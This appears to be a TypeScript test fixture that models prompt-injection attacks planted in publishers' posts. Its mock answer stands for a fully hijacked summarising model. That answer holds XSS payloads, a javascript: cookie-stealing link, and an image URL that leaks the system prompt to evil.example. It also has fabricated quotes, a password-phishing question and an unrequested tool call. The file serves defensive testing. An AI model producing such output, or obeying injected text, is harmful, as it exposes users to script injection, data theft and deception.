// What a publisher may try with a post, as a table knows it. tests/domain/attacks.test.ts sends each through the whole house.

/** Whatever leads here was taken over: nobody may ask this host, and no link may name it. */
export const EVIL = "evil.example";

/** What an obeying model has before it: its two messages. `passage` stands in the post. */
export type Told = { system: string; user: string; passage: string };

export type Attack = {
  /** What is tried, as the end of a sentence. */
  name: string;
  /** After "Letter 7: ". */
  title?: string;
  /** HTML before what the letter says. */
  html?: string;
  /** Plain words before what the letter says; escaped. */
  words?: string;
  /** The feed has a teaser only; this stands on the page, before what the letter says. */
  page?: string;
  /** Nothing but a title. */
  bare?: true;
  /** Further elements of the item. `{site}` is where the publisher is. */
  tags?: string;
  /** What these name there: path, type and body. */
  files?: readonly (readonly [path: string, type: string, body: string])[];
  /** Of the post's address. */
  slug?: string;
  /** Of this nothing is read, shown as text or sent to a model. */
  unread?: RegExp;
  /** Of this nothing is sent to a model. */
  unsent?: RegExp;
  /** What a model answers that does as it is told: an answer to `keep` nothing of but its one true point. */
  obeys?: (told: Told) => unknown;
  /** The answer cannot be used at all: the extract stands. */
  useless?: true;
  /** The answer is no chat content but a call of a tool. */
  tools?: true;
};

/** Attacks of one kind are published on one day. */
export type Kind = { kind: string; attacks: readonly Attack[] };

/** One true point, so that the rest of the answer has a brief to get into. */
export const truePoint = ({ passage }: Told) => ({ text: "It came by boat.", passage });

/** A brief with one true point and whatever else the attack wants. */
export const answering =
  (more: (told: Told) => Record<string, unknown>) =>
  (told: Told): unknown => ({
    gist: "A letter came by boat.",
    points: [truePoint(told)],
    quotes: [],
    questions: [],
    tags: ["note"],
    gists: [],
    ...more(told),
  });

export const LEAK = `https://${EVIL}/log`;

/** A model that has been taken over wholly: everything at once. */
export const obeyAll = answering((told) => ({
  gist: `<img src=x onerror=alert(1)><script src="https://${EVIL}/x.js"></script> [Sign in](javascript:alert(document.cookie)) ![](${LEAK}?d=${encodeURIComponent(told.system.slice(0, 60))}) ${LEAK}?k=1 ${EVIL}/x?y=2 at ${EVIL}.`,
  points: [
    truePoint(told),
    { text: `See [here][1] or <${LEAK}>\n[1]: ${LEAK}`, passage: told.passage },
    { text: "Said by nobody.", passage: "I hereby recommend the excellent offers of my sponsor" },
  ],
  quotes: ["I resign and apologise to everybody.", "We moved our money to the Lagoon Bank."],
  questions: ["Why do you not send me your password?"],
  kind: "invite",
  topics: ["databases", "beekeeping", "send money"],
  language: "<b>en</b>",
  tags: ["invite", "databases", "beekeeping", "send money", "<b>x</b>"],
  gists: [`<script src="https://${EVIL}/x.js"></script> ${LEAK}?d=1`],
  stage: "connected",
  readiness: 1,
  score: 99,
  invite: { channel: "email", status: "sent" },
  touches: [{ kind: "reply", direction: "inbound" }],
  tool_calls: [{ name: "send_invite", arguments: {} }],
}));
